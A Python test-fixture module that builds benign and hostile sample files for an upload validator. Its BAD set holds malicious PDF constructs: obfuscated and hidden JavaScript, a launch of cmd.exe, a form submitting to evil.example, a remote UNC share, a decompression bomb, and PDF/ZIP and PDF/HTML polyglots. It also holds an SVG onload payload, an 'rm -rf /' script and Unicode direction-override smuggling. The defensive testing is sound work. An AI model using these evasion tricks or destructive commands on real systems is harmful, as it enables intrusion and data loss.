"""Evidence files as tests make them: a plain one of each kind, and a collection that means no good."""

import struct
import zipfile
import zlib
from io import BytesIO

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def pdf(catalogue: bytes = b"", *more: bytes, trailer: bytes = b"", after: bytes = b"") -> bytes:
    """A PDF of one empty page; what is given stands in its catalogue, its trailer, and as objects from 4 on."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>", PAGES, PAGE, *more]
    body, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, text in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    body += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return body + after


def stream(data: bytes, said: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), said, data)


def packed(text: bytes, said: bytes = b"/Filter /FlateDecode") -> bytes:
    """An object stream of one object, number 9."""
    inner = b"9 0 " + text
    data = zlib.compress(inner) if b"Flate" in said else inner
    return stream(data, b"/Type /ObjStm /N 1 /First 4 " + said)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2) -> bytes:
    rows = b"".join(b"\x00" + b"\x80" * width for _ in range(min(height, 4)))
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    from PIL import Image

    made = BytesIO()
    Image.new("L", (8, 8), 200).save(made, "JPEG")
    return made.getvalue()


def archive(*names: str) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        for name in names:
            file.writestr(name, "content")
    return made.getvalue()


TEXT = "Consent of the Blåkulla theatre.\r\nWe agree: 同意します, أوافق.\n".encode()
GOOD: dict[str, tuple[bytes, str]] = {
    "a plain PDF": (pdf(), "application/pdf"),
    "a PDF that opens at its page": (pdf(b"/OpenAction [3 0 R /Fit]"), "application/pdf"),
    "a PDF with a link": (
        pdf(b"", b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://playhouse.example) >> >>"),
        "application/pdf",
    ),
    "a PDF whose title speaks of /JavaScript": (
        pdf(b"", b"<< /Title (Why \\(no\\) /JavaScript \\) ) >>"),
        "application/pdf",
    ),
    "a PDF that is signed": (
        pdf(
            b"/AcroForm << /SigFlags 3 /Fields [4 0 R] >>",
            b"<< /FT /Sig /T (sign) /V << /Type /Sig /Contents <00> >> >>",
        ),
        "application/pdf",
    ),
    "a PDF with packed objects": (pdf(b"", packed(b"<< /Kind /Harmless >>")), "application/pdf"),
    "a PNG image": (png(), "image/png"),
    "a JPEG image": (jpeg(), "image/jpeg"),
    "plain text": (TEXT, "text/plain"),
    "text with a mark of its order": (b"\xef\xbb\xbf" + TEXT, "text/plain"),
    "text that begins like a bitmap": (b"BMW and the playhouse agree.", "text/plain"),
}
BAD: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "is empty"),
    "JavaScript that runs at once": (
        pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "holds JavaScript",
    ),
    "JavaScript under a spelt-out name": (pdf(b"", b"<< /S /J#61vaScript /J#53 (x) >>"), "holds JavaScript"),
    "JavaScript in packed objects": (pdf(b"", packed(b"<< /S /JavaScript /JS (x) >>")), "holds JavaScript"),
    "JavaScript that no table names": (
        pdf(after=b"")[:-6] + b"9 0 obj << /JS (x) >> endobj\n%%EOF\n",
        "holds JavaScript",
    ),
    "JavaScript behind a comment that looks like a stream": (
        pdf(b"", b"<< /A 1 >> % stream\n<< /JS (x) >> % endstream"),
        "holds JavaScript",
    ),
    "JavaScript inside a stream, where a table points": (b"", ""),
    "a program to start": (pdf(b"", b"<< /S /Launch /F (cmd.exe) >>"), "starts a program"),
    "an action at opening": (pdf(b"/OpenAction << /S /Named /N /Print >>"), "runs when it is opened"),
    "actions of a page": (pdf(b"/AA << /WC << /S /Named /N /Print >> >>"), "run by themselves"),
    "files inside": (pdf(b"/Names << /EmbeddedFiles << /Names [] >> >>"), "files inside it"),
    "an attached file": (pdf(b"", b"<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>"), "files inside it"),
    "an XFA form": (pdf(b"/AcroForm << /XFA 3 0 R >>"), "an XFA form"),
    "Flash": (pdf(b"", b"<< /Type /Annot /Subtype /RichMedia >>"), "Flash"),
    "a form that sends": (pdf(b"", b"<< /S /SubmitForm /F (http://evil.example) >>"), "sends data away"),
    "another file to open": (pdf(b"", b"<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>"), "opens another file"),
    "an encrypted PDF": (
        pdf(
            trailer=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (%s) /U (%s) /P -4 >> /ID [<00> <00>]"
            % (b"o" * 32, b"u" * 32)
        ),
        "encrypted",
    ),
    "objects in an unusual packing": (pdf(b"", packed(b"<< >>", b"/Filter [/ASCII85Decode]")), "cannot be looked into"),
    "a bomb of packed objects": (b"", ""),
    "a PDF with something before it": (b"\n\n" + pdf(), "something before its beginning"),
    "a PDF with something after it": (pdf(after=b"MZ\x90\x00"), "After the end of the PDF"),
    "a PDF that is a ZIP archive too": (b"", ""),
    "a PDF that is an HTML page too": (
        pdf(b"", stream(b"<html><script>alert(1)</script></html>")),
        "HTML page at the same time",
    ),
    "a PDF that breaks off": (pdf()[:120], "breaks off"),
    "a PDF without a page": (pdf().replace(b"/Count 1", b"/Count 0").replace(b"[3 0 R]", b"[     ]"), "no page"),
    "a PDF of nonsense": (b"%PDF-1.7\n\x00\x01\x02 nonsense\n%%EOF\n", "cannot be read"),
    "a PNG with something after it": (png() + archive("a"), "After the end of the PNG image follow"),
    "a PNG that breaks off": (png()[:-8], "breaks off"),
    "a PNG that is damaged": (png().replace(b"\x08\x00\x00\x00\x00", b"\x08\x00\x00\x00\x01", 1), "is damaged"),
    "a PNG of nothing": (b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""), "is not whole"),
    "a PNG that is too large": (png(30_000, 30_000), "at most 80 million"),
    "a JPEG with something after it": (jpeg() + b"<script>", "After the end of the JPEG image follow"),
    "a JPEG that breaks off": (jpeg()[:-40], "breaks off"),
    "a Word document": (archive("[Content_Types].xml", "word/document.xml"), "This is a Word document"),
    "a ZIP archive": (archive("consent.pdf"), "This is a ZIP archive"),
    "an old Word document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "old Word"),
    "an HTML page": (b"<!DOCTYPE html><html><body>consent</body></html>", "This is an HTML page"),
    "an HTML page under a comment": (b"Consent, see below.\n\n<script>alert(1)</script>", "HTML page"),
    "an SVG drawing": (b'<?xml version="1.0"?><svg onload="alert(1)"/>', "SVG drawing"),
    "a rich-text document": (b"{\\rtf1 consent}", "rich-text"),
    "a TIFF image": (b"II*\x00" + b"\x08\x00\x00\x00" * 8, "TIFF"),
    "an HEIC photograph": (b"\x00\x00\x00\x18ftypheic" + b"\x00" * 32, "HEIC"),
    "a P7M signature": (b"\x30\x82\x01\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02" + b"\xa0" * 64, "P7M"),
    "a Windows program": (b"MZ\x90\x00\x03" + b"\x00" * 64, "Windows program"),
    "a script": (b"#!/bin/sh\nrm -rf /\n", "a script"),
    "text in another encoding": ("Blåkulla".encode("latin-1"), "neither a document that we know nor UTF-8"),
    "text turned round": ("We do \u202enot\u202c agree.".encode(), "U+202E"),
    "text with a control sign": (b"We agree.\x1b[2J", "U+001B"),
    "text with hidden letters": ("We agree.\U000e0041".encode(), "U+E0041"),
}


def _stream_pointed_into() -> bytes:
    """The table's entry of object 4 leads into the middle of a stream, where another object lies."""
    hidden = b"4 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj"
    whole = pdf(b"/Extra 4 0 R", b"<< /Kind /Harmless >>", stream(hidden))
    place = whole.index(hidden)
    return whole.replace(b"%010d 00000 n " % whole.index(b"4 0 obj\n<< /Kind"), b"%010d 00000 n " % place)


def _pdf_and_archive() -> bytes:
    """A ZIP archive may have anything before it, and a comment after it: here the end of the PDF."""
    inner = bytearray(archive("a"))
    tail = b"\nendstream\nendobj\n%%EOF\n"
    inner[-2:] = struct.pack("<H", len(tail))
    whole = pdf()
    return whole[: whole.rindex(b"%%EOF")] + b"8 0 obj\n<< /Length 9 >>\nstream\n" + bytes(inner) + tail


BAD["JavaScript inside a stream, where a table points"] = (_stream_pointed_into(), "holds JavaScript")
BAD["a PDF that is a ZIP archive too"] = (_pdf_and_archive(), "ZIP archive at the same time")
BAD["a bomb of packed objects"] = (pdf(b"", packed(b" " * (65 * 2**20))), "unpacks to more than")
